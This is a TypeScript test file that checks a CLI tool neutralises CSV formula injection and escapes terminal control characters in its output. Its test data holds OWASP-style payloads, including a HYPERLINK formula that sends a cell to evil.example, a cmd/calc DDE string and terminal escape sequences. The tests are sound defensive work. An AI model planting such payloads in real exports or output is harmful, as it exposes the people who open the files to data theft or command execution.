/**
 * Issue 15, outputs that cannot attack the person who opens them: every CSV cell we write goes
 * through one writer (src/core/csv.ts csvCell) that neutralises spreadsheet formulas (OWASP:
 * a leading single quote) and keeps our numbers numeric; everything printed to a terminal goes
 * through src/core/terminal.ts terminalText, which spells out control characters.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { csvCell, csvLine, parseCsvRecords } from '../src/core/csv.js';
import { terminalText } from '../src/core/terminal.js';
import { evidenceCsv } from '../src/cli/commands/diagnose.js';
import { renderTable, terminalContext, type CliContext } from '../src/cli/output.js';
import type { DiagnosedCandidate } from '../src/diagnose/candidate.js';
import { RejectSink, writeRejectsCsv } from '../src/io/reject-sink.js';
import { openMemory } from '../src/store/workspace.js';

/** Payloads of the OWASP CSV-injection page, one per dangerous first character. */
export const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
const ESC_PAYLOADS = ['\u001b]0;pwned\u0007', '\u001b[2J\u001b[H', 'a\u009b31mb', 'x\u202eevil', 'tab\there', 'line\nbreak', '\u007f'];

const dirs: string[] = [];
afterAll(() => { for (const d of dirs) rmSync(d, { recursive: true, force: true }); });

/** A spreadsheet reads a cell as a formula when its text (after CSV unquoting) starts with one of these. */
const looksLikeFormula = (cell: string): boolean => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/.test(cell);

describe('csvCell: the one CSV cell writer', () => {
  it('prefixes a single quote to text that a spreadsheet would run, and round-trips the rest', () => {
    for (const p of FORMULAS) {
      const cell = parseCsvRecords(csvCell(p))[0]?.cells[0] ?? '';
      expect(cell, JSON.stringify(p)).toBe(`'${p}`);
      expect(looksLikeFormula(cell)).toBe(false);
    }
    expect(csvCell('温州鞋业')).toBe('温州鞋业');
    expect(csvCell('a,b "c"')).toBe('"a,b ""c"""');
    expect(csvCell('a;b', ';')).toBe('"a;b"');
  });

  it('keeps numbers numeric: our numbers and plain decimal text stay as they are', () => {
    expect(csvCell(-0.5)).toBe('-0.5');
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(1e-9)).toBe('1e-9');
    expect(csvCell('-0.5')).toBe('-0.5'); // a reject's value "-0.5" is a number, not a formula
    expect(csvCell('+12')).toBe('+12');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(Number.POSITIVE_INFINITY)).toBe('');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(false)).toBe('false');
    expect(csvLine(['x', -1, null, '=1'])).toBe("x,-1,,'=1");
  });

  it('rejects.csv neutralises payloads in every text column and keeps the line number numeric', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'atlas-safety-csv-'));
    dirs.push(dir);
    const file = join(dir, 'rejects.csv');
    const ws = await openMemory();
    await ws.run('CREATE TABLE rejects (file VARCHAR, line INTEGER, field VARCHAR, value VARCHAR, reason VARCHAR, detail VARCHAR)');
    const sink = new RejectSink(ws);
    await sink.addAll(FORMULAS.map((p, i) => ({ file: p, line: i + 2, field: 'name', value: p, reason: 'bad_value', detail: p })));
    await sink.flush();
    await writeRejectsCsv(ws, file);
    ws.close();
    const text = readFileSync(file, 'utf8');
    expect(text.startsWith('\uFEFFfile,line,field,value,reason,detail\n')).toBe(true);
    const rows = parseCsvRecords(text).slice(1);
    expect(rows).toHaveLength(FORMULAS.length);
    rows.forEach((r, i) => {
      for (const c of r.cells) expect(looksLikeFormula(c), JSON.stringify(c)).toBe(false);
      expect(r.cells[1]).toBe(String(i + 2));
      expect(r.cells[3]).toBe(`'${FORMULAS[i]}`);
    });
  });

  it('diagnose --evidence neutralises a payload name and keeps a negative value numeric', () => {
    const candidate = {
      id: 'C01', name: { zh: FORMULAS[0], en: FORMULAS[0] },
      diagnosis: { evidence: [{ rule: '@rule', indicator: '-cmd', value: -0.5, comparison: '>=', threshold: -1, thresholdName: '=x', pass: true }] },
      role: { rows: [] },
    } as unknown as DiagnosedCandidate;
    const [head, row] = parseCsvRecords(evidenceCsv([candidate]));
    expect(head.cells).toEqual(['candidate', 'name', 'rule', 'indicator', 'value', 'comparison', 'threshold', 'threshold_name', 'pass']);
    expect(row.cells).toEqual(['C01', `'${FORMULAS[0]}`, "'@rule", "'-cmd", '-0.5', '>=', '-1', "'=x", 'true']);
  });
});

describe('terminalText: control characters are shown, never sent', () => {
  it('spells out ESC, BEL, C1, DEL, bidi overrides, tabs and line feeds', () => {
    for (const p of ESC_PAYLOADS) {
      const s = terminalText(p);
      expect(s, JSON.stringify(p)).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    }
    expect(terminalText('\u001b]0;pwned\u0007')).toBe('\\u001b]0;pwned\\u0007');
    expect(terminalText('温州 Wenzhou')).toBe('温州 Wenzhou');
    expect(terminalText('a\nb', { newlines: true })).toBe('a\nb');
    expect(terminalText('a\nb')).toBe('a\\u000ab');
  });

  it('keeps JSON valid and equal in value', () => {
    const doc = { name: '\u001b[2Jx\u009by\u202ez' };
    expect(JSON.parse(terminalText(JSON.stringify(doc, null, 2), { newlines: true }))).toEqual(doc);
  });

  it('renderTable and the CLI context escape every cell and line', () => {
    const table = renderTable(['id', 'name'], ESC_PAYLOADS.map((p, i) => [i, p]));
    expect(table).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/);
    expect(table.split('\n')).toHaveLength(ESC_PAYLOADS.length + 2); // a line feed in a name does not break the table
    const lines: string[] = [];
    const ctx: CliContext = { lang: 'en', format: 'table', quiet: false, out: (s) => lines.push(s), err: (s) => lines.push(s), progress: false };
    const safe = terminalContext(terminalContext(ctx));
    safe.out('title \u001b]0;pwned\u0007\nnext');
    safe.err('\u001b[2J');
    expect(lines).toEqual(['title \\u001b]0;pwned\\u0007\nnext', '\\u001b[2J']);
  });
});
